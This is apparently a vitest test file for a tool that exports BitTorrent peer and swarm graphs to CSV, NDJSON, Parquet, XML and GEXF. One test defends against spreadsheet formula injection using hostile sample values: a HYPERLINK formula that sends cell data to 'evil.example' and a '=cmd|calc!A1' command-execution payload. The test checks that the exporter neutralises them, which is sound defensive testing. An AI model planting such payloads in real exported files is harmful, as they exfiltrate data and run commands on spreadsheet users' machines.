import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parquetMetadata, parquetReadObjects } from 'hyparquet'
import { expect, test } from 'vitest'
import { xml } from '../src/xml.ts'
import { exportTo, linesOf, makeFolder } from './folder.ts'
import { endpointsOf, graphOf, hostileGraph, peerOf, placeOf, TORRENT } from './graph.ts'

/** RFC 4180, read strictly: the fields of every record. */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let rest = text
  while (rest !== '') {
    const record: string[] = []
    for (;;) {
      const match = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest)
      if (match === null) throw new Error(`no CSV: ${JSON.stringify(rest.slice(0, 80))}`)
      record.push(match[1]?.replaceAll('""', '"') ?? (match[2] as string))
      rest = rest.slice(match[0].length)
      if (match[3] === '\r\n') break
    }
    records.push(record)
  }
  return records
}

test('CSV and NDJSON hold the same rows', async () => {
  const folder = makeFolder()
  const { view } = hostileGraph()
  for (const format of ['csv', 'ndjson'] as const) await exportTo(join(folder, format), view, { format })
  for (const table of ['peers', 'edges', 'rounds', 'swarms']) {
    const [head = [], ...records] = parseCsv(readFileSync(join(folder, 'csv', `${table}.csv`), 'utf8'))
    const rows = linesOf<Record<string, unknown>>(join(folder, 'ndjson', `${table}.ndjson`))
    expect(head).toEqual(Object.keys(rows[0] ?? {}))
    const asText = (value: unknown) => (value === null ? '' : Array.isArray(value) ? value.join(' ') : String(value))
    const unquoted = records.map((record) => record.map((field) => field.replace(/^'(?=\s*[=+\-@])/, '')))
    expect(unquoted).toEqual(rows.map((row) => Object.values(row).map(asText)))
  }
})

test('no field of a CSV is a formula to a spreadsheet', async () => {
  const folder = makeFolder()
  const clients = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '  =1',
    '＝1',
    '"=1',
    "'=1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
  ]
  // Five hosts each, so that they are shown.
  const peers = clients.flatMap((client, i) =>
    endpointsOf(5, `198.51.${i}`).map((endpoint) => peerOf({ endpoint, place: placeOf('FR'), client })),
  )
  await exportTo(folder, graphOf({ peers, names: { [TORRENT]: '=cmd|calc!A1' } }), { format: 'csv' })
  const records = [
    ...parseCsv(readFileSync(join(folder, 'peers.csv'), 'utf8')),
    ...parseCsv(readFileSync(join(folder, 'swarms.csv'), 'utf8')),
  ]
  const fields = records.flat()
  expect(fields.filter((field) => /^[\s\0]*[=+\-@＝]/.test(field))).toEqual([])
  expect(fields).toContain("'=cmd|calc!A1")
  expect(fields.filter((field) => field.includes('=1')).length).toBe(30)
})

test('text in XML is escaped and holds only what XML 1.0 allows', () => {
  expect(xml('<a href="x">&\'')).toBe('&lt;a href=&quot;x&quot;&gt;&amp;&apos;')
  expect(xml('a\u0000\u001b\ufffe\ud800b\n東京')).toBe('a\ufffd\ufffd\ufffd\ufffdb&#10;東京')
})

test('Parquet has typed columns, row groups, and the rows of the NDJSON', async () => {
  const folder = makeFolder()
  const { view } = hostileGraph()
  for (const format of ['parquet', 'ndjson'] as const) await exportTo(folder, view, { format })
  for (const table of ['peers', 'edges', 'rounds', 'swarms']) {
    const bytes = readFileSync(join(folder, `${table}.parquet`))
    const file = bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.length)
    const read = await parquetReadObjects({ file })
    const plain = read.map((row) =>
      Object.fromEntries(
        Object.entries(row).map(([name, value]) => [
          name,
          typeof value === 'bigint' ? Number(value) : value instanceof Date ? value.getTime() : value,
        ]),
      ),
    )
    const rows = linesOf<Record<string, unknown>>(join(folder, `${table}.ndjson`)).map((row) =>
      Object.fromEntries(
        Object.entries(row).map(([name, value]) => [name, Array.isArray(value) ? value.join(' ') : value]),
      ),
    )
    expect(plain).toEqual(rows)
  }
})

test('a large Parquet table comes in several row groups', async () => {
  const folder = makeFolder()
  const [endpoint] = endpointsOf(1) as [ReturnType<typeof endpointsOf>[number]]
  const peer = peerOf({ endpoint, place: placeOf('FR') })
  const peers = Array.from({ length: 140_000 }, (_, i) => ({
    ...peer,
    pseudonym: i.toString(16).padStart(32, '0'),
    tellers: i,
  }))
  const { counts } = await exportTo(folder, graphOf({ peers }), { format: 'parquet' })
  const bytes = readFileSync(join(folder, 'peers.parquet'))
  const file = bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.length)
  const { row_groups, num_rows } = parquetMetadata(file)
  expect(row_groups.map((group) => Number(group.num_rows))).toEqual([65_536, 65_536, 8_928])
  expect([counts.peers, Number(num_rows)]).toEqual([140_000, 140_000])
  const tail = await parquetReadObjects({ file, rowStart: 139_990, columns: ['tellers'] })
  expect(tail.map(({ tellers }) => tellers)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8, 9].map((i) => 139_990 + i))
})

test('a graph has a node for each peer and teller of each swarm, before its edges in GEXF', async () => {
  const folder = makeFolder()
  const { view } = hostileGraph()
  const { counts } = await exportTo(folder, view, { format: 'gexf' })
  const text = readFileSync(join(folder, 'graph.gexf'), 'utf8')
  const found = (tag: string) => [...text.matchAll(new RegExp(`<${tag} `, 'g'))].length
  // 8 peers and 6 tellers that are no peers; in the other swarm 1 and 6.
  expect([found('node'), found('edge')]).toEqual([14 + 7, counts.edges])
  expect(text.lastIndexOf('<node ')).toBeLessThan(text.indexOf('<edge '))
  expect(text).toContain('start="2026-11-23T02:13:20.000Z" end="2026-11-23T02:14:20.000Z"')
  const ids = new Set([...text.matchAll(/<node id="([^"]*)"/g)].map(([, id]) => id))
  const ends = [...text.matchAll(/(?:source|target)="([^"]*)"/g)].map(([, id]) => id)
  expect(ids.size).toBe(21)
  expect(ends.every((id) => ids.has(id))).toBe(true)
})

test('an export of nothing is whole files in every format', async () => {
  const folder = makeFolder()
  const view = graphOf({ peers: [], rounds: [] })
  for (const format of ['ndjson', 'csv', 'geojson', 'graphml', 'gexf', 'parquet'] as const) {
    await exportTo(join(folder, format), view, { format })
  }
  expect(JSON.parse(readFileSync(join(folder, 'geojson/places.geojson'), 'utf8'))).toEqual({
    type: 'FeatureCollection',
    features: [],
  })
  expect(parseCsv(readFileSync(join(folder, 'csv/peers.csv'), 'utf8'))).toHaveLength(1)
  const bytes = readFileSync(join(folder, 'parquet/peers.parquet'))
  expect(
    await parquetReadObjects({ file: bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.length) }),
  ).toEqual([])
})
